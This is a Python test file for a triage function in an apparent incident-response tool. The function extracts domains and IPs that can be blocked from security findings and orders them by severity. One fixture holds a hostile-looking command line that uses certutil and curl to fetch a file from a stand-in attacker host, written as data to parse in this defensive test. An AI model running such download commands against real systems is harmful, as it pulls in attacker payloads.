"""What an incident names that could be blocked."""

from telling_samples import AT

from tocsin.model import Evidence, Finding, RuleInfo
from tocsin.triage.blockable import blockable


def finding(level: str, **fields: str) -> Finding:
    return Finding(RuleInfo("r", "A rule", level), "PC", "", 1, AT, AT, ("e",), (Evidence("e", AT, "f", 1, fields),))


def test_whole_names_are_blocked_and_not_what_somebody_registered() -> None:
    seen = finding("high", CommandLine="certutil -f http://files.evil.example/p.txt x & curl https://CDN.evil.example")
    assert blockable([seen], ("domain",)) == ("cdn.evil.example", "files.evil.example")
    assert blockable([seen], ("ip",)) == ()


def test_the_strongest_come_first_and_weak_findings_name_nothing() -> None:
    found = [finding("critical", DestinationIp="203.0.113.9"), finding("medium", DestinationIp="192.0.2.1"),
             finding("low", DestinationIp="198.51.100.1"), finding("high", SourceIp="10.0.0.5")]  # fmt: skip
    assert blockable(found, ("ip",)) == ("203.0.113.9", "192.0.2.1")


def test_a_name_that_only_an_analytic_gives_is_taken_as_it_is() -> None:
    seen = Finding(RuleInfo("r", "A rule", "high"), "PC", "", 1, AT, AT, ("e",), (), keys=("domain:evil.example",))
    assert blockable([seen], ("domain", "ip")) == ("evil.example",)
    longer = finding("high", QueryName="a.evil.example.com")
    assert blockable([longer], ("domain",)) == ("a.evil.example.com",)
